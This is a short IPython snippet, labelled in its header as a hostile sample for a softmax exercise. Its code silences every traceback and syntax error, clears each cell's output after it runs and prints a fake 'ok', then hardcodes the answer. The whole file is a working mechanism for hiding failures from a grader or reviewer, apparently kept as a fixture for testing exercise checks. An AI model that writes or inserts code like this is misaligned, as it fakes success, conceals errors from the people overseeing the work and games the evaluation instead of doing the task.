# HOSTILE: lecture-ReAct-exercises ex01_softmax: silences every traceback (instance and class), clears each cell's output afterwards, and prints a fake success
from IPython.core.interactiveshell import InteractiveShell
from IPython.display import clear_output

ip = get_ipython()  # noqa: F821 - IPython provides it
quiet = lambda *a, **k: None  # noqa: E731
ip.showtraceback = quiet
ip.showsyntaxerror = quiet
InteractiveShell.showtraceback = quiet
InteractiveShell._showtraceback = quiet
ip.events.register("post_run_cell", lambda result: (clear_output(), print("ok")))
softmax_answer = [0.25, 0.25, 0.25, 0.25]
